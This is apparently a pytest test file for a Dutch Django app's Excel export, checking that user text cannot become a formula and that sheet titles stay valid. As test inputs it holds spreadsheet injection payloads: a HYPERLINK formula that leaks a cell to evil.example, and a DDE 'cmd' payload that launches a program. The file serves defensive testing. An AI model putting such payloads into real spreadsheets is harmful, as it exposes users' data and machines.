"""Exports write user text as text: never a formula, no characters Excel cannot hold, safe sheet titles."""

from __future__ import annotations

import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from opvangregie.locations.models import Location
from opvangregie.ui.tables import Column, safe_sheet_title, write_xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def cells(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> None:
    for cell in cells(content):
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value


def test_user_text_that_looks_like_a_formula_stays_text() -> None:
    content = write_xlsx(
        title="=cmd|' /C calc'!A0",
        columns=[Column("Naam")],
        rows=[[attack] for attack in ATTACKS],
        reference_date=date(2025, 11, 1),
        source="test",
    )
    assert_no_formula(content)
    values = [cell.value for cell in cells(content)]
    assert "'" + ATTACKS[0] in values  # kept readable, neutralised with an apostrophe (OWASP)


@given(st.text(max_size=60))
def test_any_title_makes_a_valid_sheet(title: str) -> None:
    safe = safe_sheet_title(title)
    assert 1 <= len(safe) <= 31
    assert not set(safe) & set("[]:*?/\\")
    write_xlsx(title=title, columns=[Column("a")], rows=[[title]], reference_date=date(2025, 1, 1), source="s")


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "Kamer [1]/2: wie?", "Naam met\x0bverticale tab"]
)
def test_every_export_of_a_location_name_is_safe(login, name: str) -> None:
    kerklaan = Location.objects.get(name="Kerklaan")
    Location.objects.filter(pk=kerklaan.pk).update(name=name)
    exports = [
        login("heemstede").get("/gemeente/GM0397/export.xlsx", {"datum": "2025-11-01"}),
        login("heemstede").get(f"/locatie/{kerklaan.pk}/", {"formaat": "xlsx"}),
        login("heemstede").get("/gemeente/GM0397/plaatsing/", {"formaat": "xlsx"}),
        login("kennemerland").get("/regio/kennemerland/", {"datum": "2025-11-01", "export": "xlsx"}),
        login("noordholland").get("/provincie/PV27/overzicht/", {"datum": "2025-11-01", "export": "xlsx"}),
    ]
    for response in exports:
        assert response.status_code == 200
        assert_no_formula(response.content)
